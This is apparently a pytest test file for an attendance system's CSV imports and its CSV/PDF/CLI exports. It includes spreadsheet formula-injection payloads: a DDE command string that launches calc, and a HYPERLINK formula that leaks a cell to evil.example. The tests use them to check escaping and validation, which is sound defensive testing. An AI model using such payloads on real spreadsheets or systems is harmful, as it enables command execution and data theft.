"""CSV import of students, courses, enrolments and sessions (HTTP and the CLI as a real
process), and attendance exports (CSV, PDF, CLI) checked against the attendance API, with
verification links that resolve to the right record."""

from __future__ import annotations

import asyncio
import collections.abc
import csv
import io
import pathlib
import sys
import typing

import pypdf
import pytest

from central.checkin import students
from central.core import clock as clock_mod
from central.http import auth
from tests.central import conftest
from tests.central import test_sessions

START = test_sessions.local("2027-03-22T08:50:00")  # Monday, ten minutes before the lecture
DATE = "2027-03-22"


@pytest.fixture()
def clock() -> clock_mod.SettableClock:
    return clock_mod.SettableClock(START)


async def upload(
    central: conftest.Central,
    kind: str,
    text: str | bytes,
    dry_run: bool | None = None,
    token: str | None = None,
    content_type: str = "text/csv",
) -> tuple[int, typing.Any]:
    query = "" if dry_run is None else f"?dry_run={'true' if dry_run else 'false'}"
    data = text.encode() if isinstance(text, str) else text
    return await central.request(
        "POST",
        f"/api/v1/imports/{kind}{query}",
        token=token or central.admin_token,
        data=data,
        headers={"Content-Type": content_type},
    )


def counts(body: dict[str, typing.Any]) -> tuple[int, int, int]:
    return body["created"], body["updated"], body["unchanged"]


async def teacher_token(central: conftest.Central, course: str) -> str:
    token = auth.new_token()
    await central.db.add_admin_token(
        auth.token_hash(token), "teacher", "t", 0, ((central.site, course),), central.site
    )
    return token


async def test_import_each_kind_over_http(central: conftest.Central) -> None:
    site, room = central.site, central.room
    rows = f"site,student_id,pin\n{site},s1,246810\n{site},s2,246810\n{site},s3,\n"
    status, body = await upload(central, "students", rows, dry_run=True)
    assert status == 200 and body["dry_run"] is True and body["applied"] is False, body
    assert counts(body) == (3, 0, 0) and body["rows"] == 3 and body["errors"] == []
    assert await central.db.get_student(site, "s1") is None  # a dry run writes nothing
    status, body = await upload(central, "students", rows)
    assert body["applied"] is True and counts(body) == (3, 0, 0), body
    assert await students.verify_pin(central.db, site, "s1", "246810")
    status, body = await upload(central, "students", rows)
    assert body["applied"] is True and counts(body) == (0, 0, 3)  # idempotent
    status, body = await upload(central, "students", f"site,student_id,pin\n{site},s1,999999\n")
    assert counts(body) == (0, 1, 0)
    assert await students.verify_pin(central.db, site, "s1", "999999")
    assert not await students.verify_pin(central.db, site, "s1", "246810")

    # Free text (the course's name) is taken as the JSON API takes it; exports escape it.
    courses = (
        "site,course,name,timezone\n"
        f"{site},law-101,Contract law,Europe/Berlin\n"
        f"{site},eco-201,\"=cmd|' /C calc'!A0\",\n"
    )
    status, body = await upload(central, "courses", courses)
    assert counts(body) == (2, 0, 0), body
    assert (await central.db.get_course(site, "eco-201")).timezone == "UTC"  # type: ignore[union-attr]
    assert counts((await upload(central, "courses", courses))[1]) == (0, 0, 2)
    changed = courses.replace("Contract law", "Contract law I")
    assert counts((await upload(central, "courses", changed))[1]) == (0, 1, 1)
    assert (await central.db.get_course(site, "law-101")).name == "Contract law I"  # type: ignore[union-attr]

    enrol = "site,course,student_id\n" + "".join(
        f"{site},law-101,{s}\n" for s in ("s1", "s2", "s3")
    )
    assert counts((await upload(central, "enrolments", enrol))[1]) == (3, 0, 0)
    status, roster = await central.request(
        "GET", f"/api/v1/courses/{site}/law-101/roster", token=central.admin_token
    )
    assert roster["students"] == ["s1", "s2", "s3"]
    assert counts((await upload(central, "enrolments", enrol))[1]) == (0, 0, 3)

    sessions = (
        "site,course,room,first_date,start,end,weekly,until,grace_min,checkout\n"
        f"{site},law-101,{room},2027-03-22,09:00,10:30,yes,2027-05-31,5,no\n"
        f"{site},eco-201,{room},2027-03-24,14:00,15:00,,,,true\n"
    )
    status, body = await upload(central, "sessions", sessions)
    assert counts(body) == (2, 0, 0), body
    status, listed = await central.request("GET", "/api/v1/sessions", token=central.admin_token)
    by_course = {s["course"]: s for s in listed["sessions"]}
    assert by_course["law-101"]["timezone"] == "Europe/Berlin" and by_course["law-101"]["weekly"]
    assert by_course["eco-201"]["checkout"] is True and by_course["eco-201"]["grace_min"] == 5
    assert counts((await upload(central, "sessions", sessions))[1]) == (0, 0, 2)
    longer = sessions.replace("10:30", "11:00")
    assert counts((await upload(central, "sessions", longer))[1]) == (0, 1, 1)
    status, listed = await central.request("GET", "/api/v1/sessions", token=central.admin_token)
    assert len(listed["sessions"]) == 2  # updated in place, not added
    assert {s["end"] for s in listed["sessions"]} == {"11:00", "15:00"}

    status, audit = await central.request("GET", "/api/v1/audit", token=central.admin_token)
    actions = [entry["action"] for entry in audit["audit"]]
    assert {"import_students", "import_courses", "import_enrolments", "import_sessions"} <= set(
        actions
    )


async def test_row_errors_name_row_and_field_and_write_nothing(central: conftest.Central) -> None:
    site, room = central.site, central.room
    await upload(central, "courses", f"site,course,timezone\n{site},law-101,Europe/Berlin\n")
    await central.add_student("s1", "246810")
    bad = (
        "site,course,room,first_date,start,end,grace_min\n"
        f"{site},law-101,{room},2027-03-22,09:00,10:00,5\n"  # row 2: fine
        f"{site},law-101,{room},2027-03-22,11:00,10:00,5\n"  # 3: ends before it starts
        f"{site},law-101,nowhere,2027-03-22,09:00,10:00,5\n"  # 4: no such room
        f"{site},law-101,{room},2027-03-23,09:00,10:00,abc\n"  # 5: not an integer
        f"{site},law-101,{room},2027-02-30,09:00,10:00,5\n"  # 6: no such date
        f"{site},law-101,{room}\n"  # 7: too few cells
        f"{site},law-101,{room},2027-03-22,09:00,10:00,5\n"  # 8: the same as row 2
    )
    status, body = await upload(central, "sessions", bad)
    assert status == 200 and body["applied"] is False and body["rows"] == 7, body
    found = {(e["row"], e["field"]) for e in body["errors"]}
    assert found == {
        (3, "end"),
        (4, "room"),
        (5, "grace_min"),
        (6, "first_date"),
        (7, None),
        (8, None),
    }
    assert "row 2" in next(e["message"] for e in body["errors"] if e["row"] == 8)
    assert await central.db.list_sessions(site, None, None, 100, 0) == []  # all or nothing

    # The same rule, the same words as the JSON API.
    status, api = await central.request(
        "POST",
        "/api/v1/sessions",
        {
            "site": site,
            "course": "law-101",
            "room": room,
            "first_date": DATE,
            "start": "11:00",
            "end": "10:00",
        },
        token=central.admin_token,
    )
    assert status == 400 and api["error"]["details"]["field"] == "end"
    assert api["error"]["message"] == next(e["message"] for e in body["errors"] if e["row"] == 3)

    enrol = (
        "site,course,student_id\n"
        f"{site},law-101,s1\n"
        f"{site},law-101,=cmd|' /C calc'!A0\n"  # injection: not a valid name
        f"{site},law-101,ghost\n"
        f"{site},nope,s1\n"
    )
    status, body = await upload(central, "enrolments", enrol)
    assert [(e["row"], e["field"]) for e in body["errors"]] == [
        (3, "student_id"),
        (4, "student_id"),
        (5, "course"),
    ]
    assert await central.db.roster(site, "law-101") == []
    people = f"site,student_id,pin\n{site},s9,12\nother-site,s8,123456\n"
    status, body = await upload(central, "students", people)
    assert [(e["row"], e["field"]) for e in body["errors"]] == [(2, "pin"), (3, "site")]
    assert await central.db.get_student(site, "s9") is None


async def test_bad_files_get_clear_errors(central: conftest.Central) -> None:
    site = central.site
    status, body = await upload(central, "students", "site,student,pin\ncampus,s1,123456\n")
    assert status == 400 and body["error"]["code"] == "invalid_csv"
    assert "missing student_id" in body["error"]["message"]
    assert "unknown student" in body["error"]["message"]
    status, body = await upload(
        central, "students", f"site,student_id\n{site},s\xe9\n".encode("latin-1")
    )
    assert status == 400 and "not UTF-8" in body["error"]["message"]
    status, body = await upload(central, "students", b"")
    assert status == 400 and "empty" in body["error"]["message"]
    status, body = await upload(
        central, "students", b"site,student_id\n" + b"x" * (2 * 1024 * 1024)
    )
    assert status == 413 and body["error"]["code"] == "payload_too_large"
    status, body = await upload(central, "students", "{}", content_type="application/json")
    assert status == 415
    status, body = await upload(central, "rooms", "site,room\n")
    assert status == 404
    status, body = await central.request(
        "POST",
        "/api/v1/imports/students?dry_run=maybe",
        token=central.admin_token,
        data=b"site,student_id\n",
        headers={"Content-Type": "text/csv"},
    )
    assert status == 400 and body["error"]["details"]["field"] == "dry_run"
    await upload(central, "courses", f"site,course\n{site},law-101\n")
    teacher = await teacher_token(central, "law-101")
    status, body = await upload(central, "students", f"site,student_id\n{site},s1\n", token=teacher)
    assert status == 403
    status, body = await central.request("POST", "/api/v1/imports/students", data=b"")
    assert status == 401
    # Files far beyond the JSON body limit (16 KiB) are fine up to the import's own limit.
    many = "site,course,name\n" + "".join(f"{site},c-{i},Course {i}\n" for i in range(3000))
    status, body = await upload(central, "courses", many, dry_run=True)
    assert status == 200 and body["rows"] == 3000 and counts(body) == (3000, 0, 0), body
    # A byte-order mark (Excel's "CSV UTF-8") and CRLF line ends are fine.
    status, body = await upload(central, "students", f"\ufeffsite,student_id\r\n{site},s1\r\n")
    assert status == 200 and counts(body) == (1, 0, 0), body


def cli(*args: str) -> asyncio.Future[tuple[int, str, str]]:
    async def run() -> tuple[int, str, str]:
        process = await asyncio.create_subprocess_exec(
            sys.executable,
            "-m",
            "central",
            *args,
            stdout=asyncio.subprocess.PIPE,
            stderr=asyncio.subprocess.PIPE,
        )
        out, err = await asyncio.wait_for(process.communicate(), 60)
        return typing.cast(int, process.returncode), out.decode(), err.decode()

    return asyncio.ensure_future(run())


def config_for(central: conftest.Central, tmp_path: pathlib.Path) -> str:
    path = tmp_path / "cli.toml"
    path.write_text(f'data_dir = "{central.settings.data_dir}"\npublic_url = "{central.url}"\n')
    return str(path)


async def test_cli_import_is_the_same_code_path(
    central: conftest.Central, tmp_path: pathlib.Path
) -> None:
    config = config_for(central, tmp_path)
    site = central.site
    good = tmp_path / "students.csv"
    good.write_text(f"site,student_id,pin\n{site},s1,246810\n{site},s2,135790\n")
    code, out, err = await cli("import", "students", str(good), "--dry-run", "--config", config)
    assert code == 0 and "2 created" in out and "dry run" in out, (out, err)
    assert "checking rows" in err  # the progress bar
    assert await central.db.get_student(site, "s1") is None
    code, out, err = await cli("import", "students", str(good), "--config", config)
    assert code == 0 and "2 created" in out, (out, err)
    assert await students.verify_pin(central.db, site, "s2", "135790")
    code, out, err = await cli("import", "students", str(good), "--config", config)
    assert code == 0 and "2 unchanged" in out
    bad = tmp_path / "bad.csv"
    bad.write_text(f"site,student_id,pin\n{site},s3,246810\n{site},S 4,246810\n")
    code, out, err = await cli("import", "students", str(bad), "--config", config)
    assert code == 1 and "row 3, student_id: student_id must be a valid name" in err, err
    assert "nothing written" in out and await central.db.get_student(site, "s3") is None
    code, _, err = await cli("import", "teachers", str(good), "--config", config)
    assert code == 2 and "invalid choice" in err
    code, _, err = await cli(
        "import", "students", str(tmp_path / "missing.csv"), "--config", config
    )
    assert code == 1 and "No such file" in err
    header = tmp_path / "header.csv"
    header.write_text("site,id\n")
    code, _, err = await cli("import", "students", str(header), "--config", config)
    assert code == 1 and "missing student_id" in err
    _, audit = await central.request("GET", "/api/v1/audit", token=central.admin_token)
    assert any(
        e["action"] == "import_students" and e["actor"].startswith("cli:") for e in audit["audit"]
    )


@pytest.fixture()
async def week(
    central: conftest.Central, clock: clock_mod.SettableClock
) -> collections.abc.AsyncIterator[test_sessions.Week]:
    device, code = await central.add_device("pi-week", now_ms=clock.now_ms())
    await central.enroll(device, code)
    site, room = central.site, central.room
    await upload(
        central,
        "students",
        "site,student_id,pin\n" + "".join(f"{site},{s},246810\n" for s in ("s1", "s2", "s3", "s4")),
    )
    await upload(
        central,
        "courses",
        f"site,course,timezone\n{site},law-101,Europe/Berlin\n{site},eco-201,Europe/Berlin\n",
    )
    await upload(
        central,
        "enrolments",
        "site,course,student_id\n" + "".join(f"{site},law-101,{s}\n" for s in ("s1", "s2", "s3")),
    )
    _, body = await upload(
        central,
        "sessions",
        "site,course,room,first_date,start,end,weekly,grace_min\n"
        f"{site},law-101,{room},{DATE},09:00,10:30,true,5\n"
        f"{site},eco-201,{room},{DATE},13:00,14:00,false,5\n",
    )
    assert body["applied"], body
    handle = test_sessions.Week(central, clock, device)
    await handle.at(START)
    yield handle
    await handle.close()


def parse_csv(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


async def test_exports_match_the_attendance_api(
    week: test_sessions.Week, tmp_path: pathlib.Path
) -> None:
    central = week.central
    site = central.site
    assert (await week.scan("s1"))[0] == 201
    await week.at(test_sessions.local("2027-03-22T09:10:00"))
    assert (await week.scan("s2"))[1]["checkin"]["status"] == "late"
    await week.at(test_sessions.local("2027-03-22T10:31:00"))
    lecture = next(s for s in await central.db.list_sessions(site, "law-101", None, 10, 0))
    injection = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    await week.api(
        "PUT",
        f"/api/v1/sessions/{lecture.id}/attendance/{DATE}/s3",
        {"status": "excused", "note": injection},
    )
    report = await week.api("GET", f"/api/v1/sessions/{lecture.id}/attendance?date={DATE}")

    async with central.http.get(
        f"{central.url}/api/v1/exports/attendance.csv?session_id={lecture.id}&date={DATE}",
        headers={"Authorization": f"Bearer {central.admin_token}"},
    ) as response:
        assert response.status == 200
        assert response.headers["Content-Disposition"].startswith("attachment;")
        assert response.content_type == "text/csv"
        text = await response.text()
    lines = parse_csv(text)
    assert [line["student_id"] for line in lines] == [r["student_id"] for r in report["attendance"]]
    for line, row in zip(lines, report["attendance"], strict=True):
        assert line["status"] == row["status"]
        assert line["checkin_id"] == (str(row["checkin_id"]) if row["checkin_id"] else "")
        assert line["checked_in_at"] == (row["checked_in_at"] or "")
        assert line["flags"] == "; ".join(row["flags"])
        assert line["date"] == DATE and line["course"] == "law-101"
    by_student = {line["student_id"]: line for line in lines}
    assert by_student["s3"]["status"] == "excused" and by_student["s3"]["verify_url"] == ""
    assert by_student["s3"]["note"] == "'" + injection  # a spreadsheet shows it as text
    for student in ("s1", "s2"):
        url = by_student[student]["verify_url"]
        assert url.startswith(central.url + "/v/")
        status, result = await central.request(
            "GET", url.removeprefix(central.url) + "?format=json"
        )
        assert status == 200 and result["valid"] is True, result
        assert result["record"]["record"] == int(by_student[student]["checkin_id"])
        assert result["record"]["student_id"] == student

    # A course: every occurrence so far (the eco-201 session has not started yet: none).
    status, text = await central.request(
        "GET",
        f"/api/v1/exports/attendance.csv?site={site}&course=law-101",
        token=central.admin_token,
    )
    assert [(r["date"], r["student_id"]) for r in parse_csv(text)] == [
        (DATE, "s1"),
        (DATE, "s2"),
        (DATE, "s3"),
    ]
    status, text = await central.request(
        "GET",
        f"/api/v1/exports/attendance.csv?site={site}&student_id=s2",
        token=central.admin_token,
    )
    assert [(r["student_id"], r["status"]) for r in parse_csv(text)] == [("s2", "late")]

    async with central.http.get(
        f"{central.url}/api/v1/exports/attendance.pdf?session_id={lecture.id}&date={DATE}",
        headers={"Authorization": f"Bearer {central.admin_token}"},
    ) as response:
        assert response.status == 200 and response.content_type == "application/pdf"
        assert "attachment" in response.headers["Content-Disposition"]
        pdf = pypdf.PdfReader(io.BytesIO(await response.read()))
    content = "\n".join(page.extract_text() for page in pdf.pages)
    for student in ("s1", "s2", "s3"):
        assert student in content
    assert "Page 1 of 1" in content and "Verification link" in content
    uris = [a.get_object()["/A"]["/URI"] for a in pdf.pages[0].get("/Annots", [])]
    assert len(uris) == 2 and all(uri in content for uri in uris)  # printed and clickable
    status, result = await central.request(
        "GET", uris[0].removeprefix(central.url) + "?format=json"
    )
    assert status == 200 and result["valid"] is True
    assert result["record"]["student_id"] in ("s1", "s2")

    # Teachers: only their courses.
    mine, theirs = await teacher_token(central, "law-101"), await teacher_token(central, "eco-201")
    path = f"/api/v1/exports/attendance.csv?session_id={lecture.id}&date={DATE}"
    assert (await central.request("GET", path, token=mine))[0] == 200
    status, body = await central.request("GET", path, token=theirs)
    assert status == 403 and body["error"]["code"] == "not_your_course"
    status, body = await central.request(
        "GET", f"/api/v1/exports/attendance.pdf?site={site}&course=law-101", token=theirs
    )
    assert status == 403
    status, text = await central.request(
        "GET", f"/api/v1/exports/attendance.csv?site={site}&student_id=s1", token=theirs
    )
    assert status == 200 and parse_csv(text) == []  # s1's course is not theirs
    auditor = auth.new_token()
    await central.db.add_admin_token(auth.token_hash(auditor), "auditor", "a", 0, site=central.site)
    assert (await central.request("GET", path, token=auditor))[0] == 403

    for query, expected in (
        (f"session_id={lecture.id}", 200),  # no date: its default occurrence
        (f"session_id={lecture.id}&date=2027-03-23", 404),  # does not meet that day
        (f"session_id=999&date={DATE}", 404),
        (f"session_id={lecture.id}&date={DATE}&site={site}&course=law-101", 400),
        (f"site={site}", 400),
        (f"site={site}&course=nope", 404),
        (f"site={site}&student_id=ghost", 404),
        (f"site={site}&course=law-101&date={DATE}", 400),
    ):
        status, body = await central.request(
            "GET", f"/api/v1/exports/attendance.csv?{query}", token=central.admin_token
        )
        assert status == expected, (query, body)

    # The CLI: a PDF file of the same occurrence, made by a real process.
    config = config_for(central, tmp_path)
    out = tmp_path / "lecture.pdf"
    code, _, err = await cli(
        "export",
        "attendance",
        "--format",
        "pdf",
        "--session",
        str(lecture.id),
        "--date",
        DATE,
        "-o",
        str(out),
        "--config",
        config,
    )
    assert code == 0, err
    text = "\n".join(page.extract_text() for page in pypdf.PdfReader(out).pages)
    assert all(student in text for student in ("s1", "s2", "s3"))
    code, out_text, err = await cli(
        "export", "attendance", "--course", f"{site}/law-101", "--config", config
    )
    assert code == 0 and out_text.startswith("session_id,course,room,date"), err
    code, out_text, err = await cli(
        "export", "attendance", "--session", str(lecture.id), "--config", config
    )
    # Without --date: the session's default occurrence (today's in its zone, else the latest).
    assert code == 0 and out_text.startswith("session_id,course,room,date"), err
    code, _, err = await cli(
        "export",
        "attendance",
        "--session",
        str(lecture.id),
        "--date",
        "2027-03-23",
        "--config",
        config,
    )
    assert code == 1 and "does not meet on 2027-03-23" in err and "it meets on" in err, err
